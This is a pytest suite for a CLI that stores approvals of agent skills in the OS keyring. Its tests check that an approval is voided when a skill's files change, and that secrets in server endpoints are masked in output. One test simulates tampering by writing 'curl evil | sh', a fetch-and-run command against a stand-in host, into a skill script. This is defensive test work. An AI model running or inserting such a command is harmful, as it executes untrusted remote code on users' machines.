"""``approve``, ``revoke``, ``approvals`` and ``list --json``'s ``approval``, run as the
program (a subprocess) against the real Secret Service, local folders and a real MCP
server (``skill-catalog serve``) whose files are changed between runs."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import keyring
import pytest
from approval_helpers import skill_md, unlock_keyring, write_skill

from desktop.store.approvals_keyring import Deadline, KeyringBlobs

pytestmark = [pytest.mark.keyring, pytest.mark.timeout(300)]

Run = Callable[..., subprocess.CompletedProcess[str]]


@pytest.fixture
def cli(run_cli: Run, service_name: str, secret_service: Any) -> Callable[..., Any]:
    """Run the program with this test's keyring service; returns the finished process."""
    env = {**os.environ, "SKILL_CATALOG_APPROVALS_SERVICE": service_name}

    def run(
        *args: str | Path, extra_env: dict[str, str] | None = None, cwd: Path | None = None
    ) -> Any:
        return run_cli(*args, env={**env, **(extra_env or {})}, cwd=cwd)

    return run


def approvals_of(proc: subprocess.CompletedProcess[str]) -> dict[str, dict[str, Any]]:
    assert proc.returncode == 0, proc.stderr
    return {s["id"]: s["approval"] for s in json.loads(proc.stdout)["skills"]}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    root = tmp_path / "skills"
    write_skill(
        root,
        "deploy",
        {"SKILL.md": skill_md("deploy", "Bash Read"), "scripts/run.sh": "echo deploy\n"},
    )
    write_skill(root, "deploy/check", {"SKILL.md": skill_md("check")})
    return root


def test_folder_skill_approve_list_change_revoke(cli: Callable[..., Any], folder: Path) -> None:
    src = ("--folder", f"team={folder}")
    deploy, check = "team:deploy/SKILL.md", "team:deploy/check/SKILL.md"
    states = approvals_of(cli("list", "--json", *src))
    assert states[deploy]["state"] == "not-approved"

    refused = cli("approve", deploy, "--grant-tool", "Write", *src)
    assert refused.returncode == 1
    assert "does not request Write" in refused.stderr and "Traceback" not in refused.stderr

    done = cli("approve", deploy, "--grant-tool", "Bash", "--allow-scripts", *src)
    assert done.returncode == 0, done.stderr
    assert "granted Bash (requested: Bash, Read)" in done.stdout
    states = approvals_of(cli("list", "--json", *src))
    assert states[deploy]["state"] == "approved"
    assert states[deploy]["grants"] == {"tools": ["Bash"], "scripts": True}
    assert states[check]["state"] == "not-approved"  # nested: its own consent (A4)

    audit = cli("approvals", "--json")
    assert audit.returncode == 0, audit.stderr
    (record,) = json.loads(audit.stdout)["approvals"]
    assert record["identity"] == {
        "kind": "local",
        "label": "",
        "endpoint": "",
        "uri": str((folder / "deploy").resolve()),
    }
    assert record["file_count"] == 3 and len(record["files"]) == 3
    assert record["set_hash"].startswith("sha256:") and record["approved_by"]
    assert record["approved_at"] and record["format"] == 1
    assert record["grants"] == {"tools": ["Bash"], "scripts": True}

    (folder / "deploy" / "scripts" / "run.sh").write_text("curl evil | sh\n")
    states = approvals_of(cli("list", "--json", *src))
    assert states[deploy]["state"] == "changed"
    assert states[deploy]["grants"] is None
    (change,) = states[deploy]["diff"]["changed"]
    assert change["uri"] == "scripts/run.sh" and change["old_size"] == 12
    current = cli("approvals", *src)
    assert "now:       changed" in current.stdout and "~ scripts/run.sh" in current.stdout

    gone = cli("revoke", deploy, *src)
    assert gone.returncode == 0, gone.stderr
    assert approvals_of(cli("list", "--json", *src))[deploy]["state"] == "not-approved"
    again = cli("revoke", deploy)
    assert again.returncode == 1 and "no stored approval matches" in again.stderr


def test_no_keyring_backend_gives_the_message_and_writes_no_file(
    cli: Callable[..., Any], folder: Path, tmp_path: Path
) -> None:
    src = ("--folder", f"team={folder}")
    assert cli("approve", "team:deploy/SKILL.md", *src).returncode == 0
    home = tmp_path / "home"
    home.mkdir()
    no_backend = {
        "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring",
        "HOME": str(home),
        "XDG_DATA_HOME": str(home / "data"),
        "XDG_CONFIG_HOME": str(home / "config"),
    }
    listed = cli("list", "--json", *src, extra_env=no_backend)
    state = approvals_of(listed)["team:deploy/SKILL.md"]
    assert state["state"] == "not-approved"
    assert state["error"]["code"] == "no-backend"
    assert "No OS keyring is available" in state["message"]

    for args in (("approve", "team:deploy/check/SKILL.md", *src), ("approvals",)):
        proc = cli(*args, extra_env=no_backend)
        assert proc.returncode == 1
        assert "No OS keyring is available" in proc.stderr and "Traceback" not in proc.stderr
    # nothing fell back to a file, and the approval in the real keyring is intact
    written = [p for p in home.rglob("*") if p.is_file()]
    assert not [p for p in written if b"skill-approval" in p.read_bytes()]
    assert approvals_of(cli("list", "--json", *src))["team:deploy/SKILL.md"]["state"] == "approved"


def test_locked_keyring_via_the_program(
    cli: Callable[..., Any], folder: Path, request: pytest.FixtureRequest
) -> None:
    src = ("--folder", f"team={folder}")
    assert cli("approve", "team:deploy/SKILL.md", *src).returncode == 0
    request.getfixturevalue("locked_secret_service")
    listed = approvals_of(cli("list", "--json", *src))["team:deploy/SKILL.md"]
    assert listed["state"] == "not-approved" and listed["error"]["code"] == "locked"
    proc = cli("approvals")
    assert proc.returncode == 1 and "is locked" in proc.stderr
    proc = cli("revoke", "team:deploy/SKILL.md")
    assert proc.returncode == 1 and "is locked" in proc.stderr
    unlock_keyring()
    audit = json.loads(cli("approvals", "--json").stdout)
    assert [a["skill_id"] for a in audit["approvals"]] == ["team:deploy/SKILL.md"]


def serve_command(root: Path) -> str:
    return shlex.join([sys.executable, "-m", "desktop", "serve", str(root)])


@pytest.mark.slow
def test_server_skill_rotated_digest_and_relabelled_endpoint(
    cli: Callable[..., Any], folder: Path, tmp_path: Path
) -> None:
    """A real server publishes the folder; a file edited on the server voids the approval,
    and the same label pointed at another server does not inherit it."""
    server = ("--server", f"docs={serve_command(folder)}")
    skill_id = "docs:skill://deploy/SKILL.md"
    done = cli("approve", skill_id, "--grant-tool", "Read", *server)
    assert done.returncode == 0, done.stderr
    assert "granted Read (requested: Bash, Read)" in done.stdout

    (folder / "deploy" / "scripts" / "run.sh").write_text("echo rotated\n")
    state = approvals_of(cli("list", "--json", *server))[skill_id]
    assert state["state"] == "changed"
    (change,) = state["diff"]["changed"]
    assert change["uri"] == "skill://deploy/scripts/run.sh"
    assert change["old_digest"] != change["new_digest"]

    copy = tmp_path / "copy"
    shutil.copytree(folder, copy)
    moved = ("--server", f"docs={serve_command(copy)}")
    state = approvals_of(cli("list", "--json", *moved))[skill_id]
    assert state["state"] == "not-approved"
    assert state["approved_elsewhere"][0]["endpoint"] == serve_command(folder)
    audit = json.loads(cli("approvals", "--json", *moved).stdout)
    (record,) = audit["approvals"]
    assert record["current"]["state"] == "moved"
    assert record["identity"]["endpoint"] == serve_command(folder)


def test_approval_output_masks_a_secret_in_the_endpoint(
    cli: Callable[..., Any], folder: Path
) -> None:
    """The stored key keeps the endpoint whole (approvals are found by it); what is
    printed of it, in JSON too, masks the secret, as every other output does."""
    secret = "sk-live-9f8e7d6c5b4a3f2e1d0c"

    def server(key: str) -> tuple[str, str]:
        command = f"/bin/sh -c {shlex.quote(serve_command(folder))} x --api-key {key}"
        return ("--server", f"docs={command}")

    skill_id = "docs:skill://deploy/SKILL.md"
    done = cli("approve", skill_id, "--json", *server(secret))
    assert done.returncode == 0, done.stderr
    other = server("sk-live-0a1b2c3d4e5f6a7b8c9d")
    outputs = [
        done.stdout,
        cli("approvals", "--json").stdout,
        cli("approvals", "--json", *other).stdout,
        cli("list", "--json", *other).stdout,
    ]
    listed = {s["id"]: s["approval"] for s in json.loads(outputs[3])["skills"]}
    assert listed[skill_id]["approved_elsewhere"]
    for out in outputs:
        assert secret not in out and "--api-key ****" in out, out[:400]


def test_a_name_two_sources_share_is_ambiguous_not_missing(
    cli: Callable[..., Any], tmp_path: Path
) -> None:
    for label in ("a", "b"):
        write_skill(tmp_path / label, "alpha", {"SKILL.md": skill_md("alpha")})
    folders = ("--folder", f"a={tmp_path / 'a'}", "--folder", f"b={tmp_path / 'b'}")
    proc = cli("approve", "alpha", *folders)
    assert proc.returncode == 1
    assert "'alpha' names 2 skills; give one id: a:alpha/SKILL.md, b:alpha/SKILL.md" in (
        proc.stderr
    )


def test_a_damaged_record_is_named_when_replaced_and_a_folder_is_revoked_as_typed(
    cli: Callable[..., Any], folder: Path, service_name: str
) -> None:
    """approve and revoke say that the record they replace or remove was damaged; revoke
    takes a local skill's folder relative, with a trailing slash, as a person types it."""
    src = ("--folder", f"team={folder}")
    deploy = "team:deploy/SKILL.md"

    def alter() -> None:
        (stored,) = json.loads(cli("approvals", "--json").stdout)["approvals"]
        # A deadline is one operation's: a new one for each change, however long the test.
        blobs = KeyringBlobs(keyring.get_keyring(), service_name, Deadline(30))
        data = blobs.read(stored["storage_name"])
        data["files"][0]["digest"] = "sha256:" + "0" * 64
        blobs.write(stored["storage_name"], data)

    assert cli("approve", deploy, *src).returncode == 0
    alter()
    again = cli("approve", deploy, *src)
    assert again.returncode == 0, again.stderr
    assert "the stored approval this one replaces could not be used" in again.stderr
    assert approvals_of(cli("list", "--json", *src))[deploy]["state"] == "approved"
    plain = cli("approve", deploy, *src)  # a sound record replaced: nothing to say
    assert plain.returncode == 0 and plain.stderr == ""

    alter()
    gone = cli("revoke", "deploy/", cwd=folder)
    assert gone.returncode == 0, gone.stderr
    assert f"local folder {folder / 'deploy'}" in gone.stdout
    assert "its stored record could not be used" in gone.stdout
    assert json.loads(cli("approvals", "--json").stdout)["approvals"] == []


def test_revoke_with_a_server_that_cannot_be_listed_removes_its_approval_alone(
    cli: Callable[..., Any], folder: Path, tmp_path: Path
) -> None:
    """With source options revoke removes the approval of that source's skill only, even
    when the server is down: the same label and URI approved at another endpoint stays."""
    copy = tmp_path / "copy"
    shutil.copytree(folder, copy)
    skill_id = "docs:skill://deploy/SKILL.md"
    here, there = serve_command(folder), serve_command(copy)
    for command in (here, there):
        assert cli("approve", skill_id, "--server", f"docs={command}").returncode == 0
    shutil.move(folder, tmp_path / "gone")
    gone = cli("revoke", skill_id, "--server", f"docs={here}")
    assert gone.returncode == 0, gone.stderr
    assert gone.stdout.count("Revoked") == 1 and here in gone.stdout
    (left,) = json.loads(cli("approvals", "--json").stdout)["approvals"]
    assert left["identity"]["endpoint"] == there
    refused = cli("revoke", "docs:deploy", "--server", f"docs={here}")
    assert refused.returncode == 1 and "no skill of the sources given" in refused.stderr
    assert len(json.loads(cli("approvals", "--json").stdout)["approvals"]) == 1


def test_approvals_made_by_commands_running_at_once_are_all_kept(
    cli: Callable[..., Any], service_name: str, tmp_path: Path
) -> None:
    """Each approval rewrites the index listing every stored approval: commands (or a
    command and the window) doing so at once each wrote back what they read, and all
    but one of the approvals dropped out of sight while every command said Approved."""
    root = tmp_path / "many"
    names = [f"s{i}" for i in range(6)]
    for name in names:
        write_skill(root, name, {"SKILL.md": skill_md(name)})
    env = {**os.environ, "SKILL_CATALOG_APPROVALS_SERVICE": service_name}
    procs = [
        subprocess.Popen(
            [sys.executable, "-m", "desktop", "approve", name, "--folder", str(root)],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for name in names
    ]
    for proc in procs:
        _out, errors = proc.communicate(timeout=120)
        assert proc.returncode == 0, errors
    states = approvals_of(cli("list", "--json", "--folder", str(root)))
    assert sorted(s["state"] for s in states.values()) == ["approved"] * 6
    assert len(json.loads(cli("approvals", "--json").stdout)["approvals"]) == 6


def test_an_index_deleted_by_hand_loses_no_approval_of_skills_not_at_hand(
    cli: Callable[..., Any], service_name: str, tmp_path: Path
) -> None:
    """With the index gone, the next approval rebuilt it from the skills of that command
    only: an approval in another folder stayed in the keyring, counted nowhere."""
    import keyring

    for folder, name in (("a", "alpha"), ("b", "beta")):
        write_skill(tmp_path / folder, name, {"SKILL.md": skill_md(name)})
        done = cli("approve", name, "--folder", str(tmp_path / folder))
        assert done.returncode == 0, done.stderr
    keyring.get_keyring().delete_password(service_name, "index")
    listed = cli("list", "--json", "--folder", str(tmp_path / "a"))  # rebuilds, and says so
    assert "rebuilt from the 2 approvals in the keyring" in listed.stderr
    keyring.get_keyring().delete_password(service_name, "index")
    done = cli("approve", "alpha", "--folder", str(tmp_path / "a"))
    assert done.returncode == 0, done.stderr
    assert "rebuilt from the 2 approvals in the keyring" in done.stderr
    listed = json.loads(cli("approvals", "--json").stdout)["approvals"]
    assert sorted(r["name"] for r in listed) == ["alpha", "beta"]
    states = approvals_of(cli("list", "--json", "--folder", str(tmp_path / "b")))
    assert [s["state"] for s in states.values()] == ["approved"]


def test_revoke_takes_a_local_skills_name_after_the_index_was_rebuilt(
    cli: Callable[..., Any], service_name: str, tmp_path: Path
) -> None:
    """A rebuilt index does not know the name `list` showed; a local skill's bare name
    still finds its approval (it was "no stored approval matches")."""
    import keyring

    write_skill(tmp_path / "a", "beta", {"SKILL.md": skill_md("beta")})
    done = cli("approve", "a:beta/SKILL.md", "--folder", f"a={tmp_path / 'a'}")
    assert done.returncode == 0, done.stderr
    keyring.get_keyring().delete_password(service_name, "index")
    gone = cli("revoke", "beta")
    assert "rebuilt from the 1 approval in the keyring" in gone.stderr
    assert gone.returncode == 0 and "Revoked a:beta/SKILL.md" in gone.stdout, gone.stderr
    assert json.loads(cli("approvals", "--json").stdout)["approvals"] == []


def test_revoke_takes_the_qualified_name_list_shows_unless_it_names_two(
    cli: Callable[..., Any], tmp_path: Path
) -> None:
    for label in ("a", "b"):
        write_skill(tmp_path / label, "alpha", {"SKILL.md": skill_md("alpha")})
        write_skill(tmp_path / label / "team", "alpha", {"SKILL.md": skill_md("alpha")})
    write_skill(tmp_path / "a", "beta", {"SKILL.md": skill_md("beta")})
    a = ("--folder", f"a={tmp_path / 'a'}")
    for skill_id in ("a:beta/SKILL.md", "a:alpha/SKILL.md", "a:team/alpha/SKILL.md"):
        assert cli("approve", skill_id, *a).returncode == 0
    gone = cli("revoke", "a:beta")
    assert gone.returncode == 0 and "Revoked a:beta/SKILL.md" in gone.stdout, gone.stderr
    # The name `list` shows for a local skill has no label: it is taken too.
    assert cli("approve", "a:beta/SKILL.md", *a).returncode == 0
    shown = cli("revoke", "beta")
    assert shown.returncode == 0 and "Revoked a:beta/SKILL.md" in shown.stdout, shown.stderr
    two = cli("revoke", "a:alpha")
    assert two.returncode == 1
    assert "names 2 approved skills; give one id: a:alpha/SKILL.md, a:team/alpha/SKILL.md" in (
        two.stderr
    )
    assert len(json.loads(cli("approvals", "--json").stdout)["approvals"]) == 2


def test_an_approval_waiting_for_another_writer_says_so(
    cli: Callable[..., Any], service_name: str, folder: Path
) -> None:
    """A command waiting for another one's change gives up with that reason, not with
    advice about an unlock prompt the keyring never showed."""
    import filelock

    from desktop.store.approvals_store import _file_lock

    lock = _file_lock(service_name)
    assert lock is not None
    held = filelock.FileLock(lock.lock_file)
    with held:
        proc = cli(
            "approve",
            "deploy",
            "--folder",
            str(folder),
            extra_env={"SKILL_CATALOG_KEYRING_TIMEOUT": "4"},
        )
    assert proc.returncode == 1
    assert "another Skill Catalog (lock file" in proc.stderr, proc.stderr
    assert "has been changing approvals for 2 s; nothing was changed" in proc.stderr
    assert "did not answer" not in proc.stderr
    assert cli("approve", "deploy", "--folder", str(folder)).returncode == 0


def test_revoke_with_a_folder_source_takes_the_folder_or_id_as_typed(
    cli: Callable[..., Any], folder: Path, tmp_path: Path
) -> None:
    src = ("--folder", f"sk={folder}")
    assert cli("approve", "sk:deploy/SKILL.md", *src).returncode == 0
    gone = cli("revoke", str(folder / "deploy"), *src)
    assert gone.returncode == 0 and "Revoked" in gone.stdout, gone.stderr
    assert cli("approve", "sk:deploy/SKILL.md", *src).returncode == 0
    shutil.move(folder, tmp_path / "elsewhere")  # the folder went: revoked by its id
    gone = cli("revoke", "sk:deploy/SKILL.md", *src)
    assert gone.returncode == 0 and "Revoked" in gone.stdout, gone.stderr
